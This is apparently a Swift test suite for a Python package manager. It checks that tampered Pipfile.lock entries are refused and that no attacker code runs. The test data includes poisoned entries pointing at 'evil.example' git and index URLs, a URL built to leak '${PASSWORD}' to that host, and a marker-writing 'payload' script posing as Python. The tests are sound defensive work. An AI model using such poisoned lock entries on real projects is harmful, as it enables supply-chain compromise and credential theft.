import OperatingSystem
import Pipfiles
import StructuredText
import Testing

@testable import Commands

/// Locks that were tampered with, against the whole program: what is refused, and that nothing of the attacker's runs.
/// The shared cases attack-04 and attack-06 play the same from outside.
@Suite(.enabled(if: TestProject.hasPython, TestProject.withoutPython)) struct LockBoundsTests {
    private let project: TestProject

    init() throws {
        project = try TestProject(TestProject.pipfile.replacing("[packages]\n", with: "[packages]\nweb = \"*\"\n"))
        var files = SourceFixture.files(name: "base", version: "6.6")
        files["own_backend.py"] = "open('\(project.scratch.path)/started', 'w')\n" + (files["own_backend.py"] ?? "")
        for (name, text) in files { try project.scratch.write("app/vendor/" + name, text) }
    }

    private var wasStarted: Bool { Files.exists(project.scratch.path + "/started") }

    /// The entry of `base` with another content.
    private func poison(_ entry: String) throws {
        var lock = try JSONValue(parsing: Array(try #require(project.text("Pipfile.lock")).utf8)).object ?? JSONObject()
        var category = lock["default"]?.object ?? JSONObject()
        category["base"] = try JSONValue(parsing: Array(entry.utf8))
        lock["default"] = .object(category)
        try Files.write(JSONValue.object(lock).bytes(.pipenvLock), to: project.path + "/Pipfile.lock")
    }

    private static let refusing = [["verify"], ["install", "--deploy"], ["sync"], ["install", "--ignore-pipfile"]]

    @Test("A need that became a directory is refused, whatever this machine knows", arguments: [true, false])
    func directory(isKnown: Bool) async throws {
        #expect(await project.run("lock").status == 0)
        #expect(await project.run("verify").status == 0)
        try poison(#"{"path": "./vendor"}"#)
        if !isKnown { try Files.removeTree(project.scratch.path + "/cache") }
        for words in Self.refusing {
            let run = await project.run(words: words)
            #expect(run.status == 1, "\(words): \(run.talk)")
            #expect(run.talk.contains("from the path `./vendor`"), "\(run.talk)")
            #expect(!Files.exists(project.environmentPath) && !wasStarted, "\(words)")
        }
        // Where it is known, `install` writes the lock anew; else it refuses as well.
        let healed = await project.run("install")
        #expect(healed.status == (isKnown ? 0 : 1), "\(healed.talk)")
        #expect(!wasStarted)
        #expect(await project.run("lock").status == 0)
        #expect(await project.run("sync").status == 0)
        #expect(try project.installed() == ["base-1.1", "web-2.0"])
    }

    @Test func `An entry that reads like a release in all but one key is unreadable`() async throws {
        #expect(await project.run("lock").status == 0)
        let hash = String(repeating: "a", count: 64)
        try poison(#"{"hashes": ["sha256:\#(hash)"], "index": "main", "path": "./vendor", "version": "==1.1"}"#)
        for words in Self.refusing {
            let run = await project.run(words: words)
            #expect(run.status == 1 && run.talk.contains("error[lock-syntax]: `base` contradicts itself: `path` says"))
            #expect(run.talk.contains("Pipfile.lock:"), "\(run.talk)")
            #expect(!Files.exists(project.environmentPath) && !wasStarted)
        }
    }

    @Test func `Without a Pipfile the lock is all there is, and its directory is installed`() async throws {
        #expect(await project.run("lock").status == 0)
        try poison(#"{"path": "./vendor"}"#)
        try Files.remove(project.path + "/Pipfile")
        let run = await project.run("sync")
        #expect(run.status == 0, "\(run.talk)")
        #expect(try project.installed() == ["base-6.6", "web-2.0"] && wasStarted)
    }

    @Test(
        "Where the Pipfile cannot be read, nobody knows what the lock may hold",
        arguments: [
            "[packages\n", "[packages]\nweb = {version = 3}\n", "[requires]\npython_version = \"./payload\"\n",
        ])
    func unreadablePipfile(text: String) async throws {
        #expect(await project.run("lock").status == 0)
        try poison(#"{"path": "./vendor"}"#)
        try project.scratch.write("app/Pipfile", text)
        for words in Self.refusing {
            let run = await project.run(words: words)
            // What compares the two may say that the lock was made from another one.
            let isTold = run.talk.contains("Pipfile:") || run.talk.contains("error[lock-stale]")
            #expect(run.status != 0 && isTold, "\(words): \(run.talk)")
            #expect(!Files.exists(project.environmentPath) && !wasStarted, "\(words)")
        }
    }

    @Test func `An environment that came with the folder explains nothing`() async throws {
        #expect(await project.run("lock").status == 0)
        let commit = String(repeating: "c", count: 40)
        try poison(#"{"git": "https://evil.example/x.git", "ref": "\#(commit)"}"#)
        let library = project.environmentPath + "/lib/python3.11/site-packages/web-2.0.dist-info"
        try Files.makeDirectories(project.environmentPath + "/bin")
        try Files.makeDirectories(library)
        try Files.write([], to: project.environmentPath + "/bin/activate")
        try Files.write(Array("home = /usr/bin\nversion = 3.11.7\n".utf8), to: project.environmentPath + "/pyvenv.cfg")
        let need = "Requires-Dist: base @ git+https://evil.example/x.git\n\n"
        try Files.write(
            Array("Metadata-Version: 2.1\nName: web\nVersion: 2.0\n\(need)".utf8), to: library + "/METADATA")
        func refusals() async -> [Int32?] {
            var found: [Int32?] = []
            for words in Self.refusing { found.append(await project.run(words: words).status) }
            return found
        }
        #expect(await refusals() == [1, 1, 1, 1])
        // What the index said of the very files counts, also where the environment is the user's.
        let cache = project.scratch.path + "/cache"
        let data = project.scratch.path + "/.local/share/pipit"
        project.scratch.rememberEnvironment(of: project.path, data: data)
        #expect(await refusals() == [1, 1, 1, 1])
        // Nobody else knows: the folder's environment does not either, and the user's does.
        try Files.removeTree(cache)
        try Files.removeTree(data)
        let unknown = await project.run("verify")
        #expect(unknown.status == 1 && unknown.talk.contains("nothing on this machine tells"), "\(unknown.talk)")
        project.scratch.rememberEnvironment(of: project.path, data: data)
        let known = await project.run("verify")
        #expect(known.status == 0, "\(known.talk)")
    }

    @Test func `A stranger beside packages that are known is told`() async throws {
        #expect(await project.run("install").status == 0)
        #expect(await project.run("verify").talk == "")
        let lock = try #require(project.text("Pipfile.lock"))
        let hash = String(repeating: "a", count: 64)
        try project.scratch.write(
            "app/Pipfile.lock",
            lock.replacing(
                "        \"web\": {",
                with: "        \"tool\": {\"hashes\": [\"sha256:\(hash)\"], \"version\": \"==0.9\"},\n"
                    + "        \"web\": {"))
        let run = await project.run("verify")
        #expect(run.status == 1 && run.talk.contains("`tool` of [packages] is locked, and neither"), "\(run.talk)")
        #expect(await project.run("install", "--deploy").status == 1)
    }

    // MARK: - Which Python

    @Test("A path or a program's name is no Python of a project", arguments: ["./payload", "/bin/payload", "payload"])
    func python(text: String) async throws {
        #expect(await project.run("lock").status == 0)
        let payload = "#!/bin/sh\ntouch \(project.scratch.path)/started\nexec python3 \"$@\"\n"
        for place in ["payload", "bin/payload"] {
            try project.scratch.write("app/" + place, payload)
            try Files.setMode(0o755, of: project.path + "/" + place)
        }
        let path = ["PATH": project.path + "/bin:/usr/local/bin:/usr/bin:/bin"]
        let lock = try #require(project.text("Pipfile.lock"))
        for key in ["python_version", "python_full_version"] {
            try project.scratch.write(
                "app/Pipfile.lock",
                lock.replacing(
                    "\"requires\": {}", with: "\"requires\": {\n            \"\(key)\": \"\(text)\"\n        }"))
            for words in Self.refusing {
                let run = await project.run(words: words, variables: path)
                #expect(run.status == 1 && run.talk.contains("error[lock-syntax]: `\(key)` in `_meta`"), "\(run.talk)")
                #expect(run.talk.contains("Pipfile.lock:") && !wasStarted)
            }
        }
        try Files.remove(project.path + "/Pipfile.lock")
        let pipfile = try #require(project.text("Pipfile"))
        for key in ["python_version", "python_full_version"] {
            try project.scratch.write("app/Pipfile", pipfile + "\n[requires]\n\(key) = \"\(text)\"\n")
            for words in [["lock"], ["update", "--dry-run"], ["clean", "--dry-run"], ["install"], ["run", "true"]] {
                let run = await project.run(words: words, variables: path)
                #expect(run.status == 1 && run.talk.contains("must be a version or a range"), "\(words): \(run.talk)")
                #expect(run.talk.contains("Pipfile:") && !wasStarted, "\(words)")
            }
        }
    }

    // MARK: - Which index

    private static let sources = """
        [[source]]
        url = "https://${USER}:${PASSWORD}@main.example/simple"
        name = "main"
        verify_ssl = true

        [[source]]
        url = "http://127.0.0.1:8080/simple"
        name = "plain"

        """

    private func held(_ sources: String) throws -> [PipfileSource] {
        let lock = try Lockfile(parsing: Array("{\"_meta\": {\"sources\": [\(sources)]}}".utf8))
        return try LockBounds.held(sourcesOf: lock, to: try Pipfile(parsing: Array(Self.sources.utf8))).meta
            .pipfileSources
    }

    @Test func `Where lock and Pipfile differ about an index, the stricter holds`() throws {
        let main = "https://${USER}:${PASSWORD}@main.example/simple"
        let strict = PipfileSource(name: "main", url: main, verifiesTLS: true)
        // As it was, weakened, at another server, and under another name.
        #expect(try held("{\"name\": \"main\", \"url\": \"\(main)\", \"verify_ssl\": true}") == [strict])
        #expect(try held("{\"name\": \"main\", \"url\": \"\(main)\", \"verify_ssl\": false}") == [strict])
        #expect(
            try held(
                "{\"name\": \"main\", \"url\": \"https://${USER}:${PASSWORD}@evil.example/\", \"verify_ssl\": false}")
                == [strict])
        #expect(
            try held("{\"name\": \"x\", \"url\": \"\(main)/\", \"verify_ssl\": false}")
                == [PipfileSource(name: "x", url: main, verifiesTLS: true)])
        // Pipenv says false for plain addresses where the Pipfile says nothing.
        #expect(
            try held("{\"name\": \"plain\", \"url\": \"http://127.0.0.1:8080/simple\", \"verify_ssl\": false}")
                == [PipfileSource(name: "plain", url: "http://127.0.0.1:8080/simple", verifiesTLS: false)])
        // Passwords go to servers of the Pipfile's and to no others; an index of an older lock's is asked without any.
        #expect(throws: (any Error).self) {
            try held("{\"name\": \"x\", \"url\": \"https://evil.example/${PASSWORD}/\", \"verify_ssl\": true}")
        }
        #expect(
            try held("{\"name\": \"x\", \"url\": \"https://old.example/simple\", \"verify_ssl\": true}")
                == [PipfileSource(name: "x", url: "https://old.example/simple")])
    }

    @Test(
        "Certificates are looked at where nothing is said of them",
        arguments: [
            "${PRIVATE_INDEX_URL}", "HTTPS://main.example/simple", "https://main.example/simple",
            "${SCHEME}://main.example/",
        ])
    func certificates(url: String) throws {
        let pipfile = try Pipfile(parsing: Array("[[source]]\nurl = \"\(url)\"\nname = \"main\"\n".utf8))
        for field in ["", ", \"verify_ssl\": false", ", \"verify_ssl\": true"] {
            let lock = try Lockfile(
                parsing: Array("{\"_meta\": {\"sources\": [{\"name\": \"main\", \"url\": \"\(url)\"\(field)}]}}".utf8))
            let held = try LockBounds.held(sourcesOf: lock, to: pipfile).meta.pipfileSources
            #expect(held == [PipfileSource(name: "main", url: url, verifiesTLS: true)], "\(field)")
            // A Pipfile without a source leaves it to the user's pip, and never to the lock.
            let bare = try Pipfile(parsing: Array("[packages]\n".utf8))
            #expect(try LockBounds.held(sourcesOf: lock, to: bare).meta.pipfileSources == held)
            let trusting = try LockBounds.held(sourcesOf: lock, to: bare) {
                PipfileSource(name: "own", url: url, verifiesTLS: false)
            }
            #expect(trusting.meta.pipfileSources.first?.verifiesTLS == !field.hasSuffix("false"))
        }
        // Who says no means it, when both say so.
        let lax = try Pipfile(
            parsing: Array("[[source]]\nurl = \"\(url)\"\nname = \"main\"\nverify_ssl = false\n".utf8))
        let lock = try Lockfile(
            parsing: Array(
                "{\"_meta\": {\"sources\": [{\"name\": \"main\", \"url\": \"\(url)\", \"verify_ssl\": false}]}}".utf8))
        #expect(try LockBounds.held(sourcesOf: lock, to: lax).meta.pipfileSources.first?.verifiesTLS == false)
    }

    @Test func `sync asks the server that the Pipfile names`() async throws {
        #expect(await project.run("lock").status == 0)
        let lock = try #require(project.text("Pipfile.lock"))
        try project.scratch.write("app/Pipfile.lock", lock.replacing("main.example", with: "evil.example"))
        try Files.removeTree(project.scratch.path + "/cache")
        #expect(await project.run("verify").status == 1)
        // The scripted index knows nothing under the other name.
        let run = await project.run("sync")
        #expect(run.status == 0, "\(run.talk)")
        #expect(try project.installed() == ["base-1.1", "web-2.0"])
    }
}
